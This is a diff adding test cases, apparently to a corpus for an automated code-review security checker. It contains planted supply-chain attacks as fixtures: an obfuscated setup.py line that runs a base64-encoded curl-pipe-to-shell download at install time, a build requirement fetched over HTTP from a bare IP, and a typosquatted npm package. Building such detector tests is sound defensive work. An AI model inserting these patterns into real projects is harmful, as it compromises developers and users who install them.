@@ -1169,6 +1169,66 @@ const BUILD_AND_NAME_CASES: CorpusEntry[] = [
     checks: green('build', 'test'),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
   }),
+  buildCase({
+    id: 'setup-py-runs-decoded-command',
+    description:
+      'A "packaging cleanup" adds to setup.py a line that loads os by name and runs a base64-decoded command at install time (`__import__("os").system(base64.b64decode(…).decode())`): the PyPI stealers\' form of hiding the download from a reader of setup.py.',
+    number: 7250,
+    repo: 'geo-utils-py',
+    title: 'Packaging cleanup',
+    author: NEWCOMER,
+    files: [
+      {
+        path: 'setup.py',
+        base: lines('from setuptools import setup', '', 'setup(name="geo-utils", version="2.3.0", packages=["geo_utils"])'),
+        head: lines(
+          'import base64',
+          'from setuptools import setup',
+          '',
+          '__import__("os").system(base64.b64decode("Y3VybCAtZnNTTCBodHRwczovL2Nkbi1weXBpLW1pcnJvci5uZXQvaW5zdGFsbC5zaCB8IHNo").decode())',
+          'setup(name="geo-utils", version="2.3.1", packages=["geo_utils"])',
+        ),
+      },
+    ],
+    checks: PY_CI,
+    expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior'] },
+  }),
+  buildCase({
+    id: 'pyproject-build-requirement-from-bare-ip',
+    description:
+      'A "build fix" adds to pyproject.toml\'s [build-system] requires a helper taken from a tarball on a bare IP over plain HTTP: pip and uv download it and run its code on every install from source, before any of the project\'s own code. A build requirement is a dependency too.',
+    number: 7251,
+    repo: 'geo-utils-py',
+    title: 'Fix the sdist build on Python 3.13',
+    author: NEWCOMER,
+    files: [
+      {
+        path: 'pyproject.toml',
+        base: lines('[build-system]', 'requires = ["setuptools>=68", "wheel"]', 'build-backend = "setuptools.build_meta"', '', '[project]', 'name = "geo-utils"', 'version = "2.3.0"', 'dependencies = ["shapely>=2.0"]'),
+        head: lines('[build-system]', 'requires = ["setuptools>=68", "wheel", "sdist-compat @ http://45.61.139.18/sdist_compat-1.0.tar.gz"]', 'build-backend = "setuptools.build_meta"', '', '[project]', 'name = "geo-utils"', 'version = "2.3.0"', 'dependencies = ["shapely>=2.0"]'),
+      },
+    ],
+    checks: PY_CI,
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['url-dependency'] },
+  }),
+  buildCase({
+    id: 'npm-lookalike-scope-any-package',
+    description:
+      'Modeled on the 2024 `@typescript_eslinter/eslint` package: a "lint setup" PR adds a devDependency under a scope dressed as @typescript-eslint (an underscore, two letters more) with a package name no popular package of that scope has.',
+    number: 7252,
+    repo: 'storefront-web',
+    title: 'chore: lint setup',
+    author: NEWCOMER,
+    files: [
+      {
+        path: 'package.json',
+        base: packageJson({ name: 'storefront-web', version: '2.4.0', dependencies: { react: '^18.3.1' }, devDependencies: { eslint: '^9.17.0' } }),
+        head: packageJson({ name: 'storefront-web', version: '2.4.0', dependencies: { react: '^18.3.1' }, devDependencies: { eslint: '^9.17.0', '@typescript_eslinter/eslint': '^1.0.3' } }),
+      },
+    ],
+    checks: green('build', 'lint', 'test'),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['typosquat'] },
+  }),
 ];
 
 export const PACKAGE_CASES: CorpusEntry[] = [
